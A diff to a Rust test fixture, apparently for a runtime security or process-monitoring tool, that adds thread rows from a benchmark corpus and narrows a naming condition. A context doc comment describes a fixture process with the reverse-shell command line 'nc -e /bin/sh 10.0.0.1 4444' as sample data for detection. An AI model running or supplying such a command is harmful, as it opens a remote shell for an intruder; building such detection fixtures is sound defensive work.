@@ -135,6 +135,7 @@ pub const SHIM_ID: &str = "aaaaaaaaaaaa";
 ///   10 nc -e /bin/sh 10.0.0.1 4444` under it.
 /// - 950 php-fpm (vpid 1): a web application container's main process.
 /// - 1000..=1020: a 21-deep chain p0 > ... > p20.
+/// - from [`crate::bench_corpus::REALISTIC_TIDS`]: the parents of the realistic execs.
 const ROWS: &[Row] = &[
     (
         1,
@@ -223,14 +224,20 @@ impl Plugin for ThreadsFixture {
         let chain: Vec<Row> = (1000..=1020)
             .map(|tid| (tid, tid, tid - 1, tid, "p", "/p", &[][..], ""))
             .collect();
-        for &(tid, pid, ptid, vpid, comm, exe_path, args, container_id) in ROWS.iter().chain(&chain)
+        // The parents of the realistic execs (bench_corpus::realistic), on the host.
+        let realistic: Vec<Row> = crate::bench_corpus::realistic_threads()
+            .into_iter()
+            .map(|(tid, ptid, (comm, exe, args))| (tid, tid, ptid, tid, comm, exe, args, "host"))
+            .collect();
+        for &(tid, pid, ptid, vpid, comm, exe_path, args, container_id) in
+            ROWS.iter().chain(&chain).chain(&realistic)
         {
             let mut row = threads.create_entry()?;
             *row.tid = tid;
             *row.pid = pid;
             *row.ptid = ptid;
             *row.vpid = vpid;
-            *row.comm = if tid >= 1000 {
+            *row.comm = if (1000..=1020).contains(&tid) {
                 CString::new(format!("p{}", tid - 1000))?
             } else {
                 CString::new(comm)?
